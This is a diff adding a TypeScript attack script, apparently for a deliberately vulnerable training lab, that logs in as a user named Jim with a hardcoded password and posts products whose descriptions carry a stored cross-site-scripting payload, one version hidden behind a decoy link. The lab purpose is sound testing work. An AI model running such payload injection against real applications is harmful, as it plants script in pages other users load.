@@ -1,0 +1,26 @@
+import type { Attack, Tools } from '#lab'
+
+const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
+
+/** Puts a product into the catalogue as Jim, who has no business there. */
+async function addProduct({ http, settings, expect }: Tools, description: string): Promise<void> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const answer = await http.post('/api/Products', { name: 'RestXSS', description, price: 47.11 }, { token })
+  expect(answer.status === 201, `the product answered with ${answer.status}`)
+  const { data } = answer.json<{ data: { description: string } }>()
+  expect(data.description.includes(PAYLOAD), 'the description is another one')
+}
+
+export const attacks: Attack[] = [
+  {
+    challenge: 'restfulXssChallenge',
+    name: 'a product with a player in its description',
+    run: (tools) => addProduct(tools, PAYLOAD),
+  },
+  {
+    challenge: 'restfulXssChallenge',
+    name: 'the same behind a decoy',
+    run: (tools) => addProduct(tools, `<a href="javascript:void(0)">Fresh!</a>${PAYLOAD}`),
+  },
+]
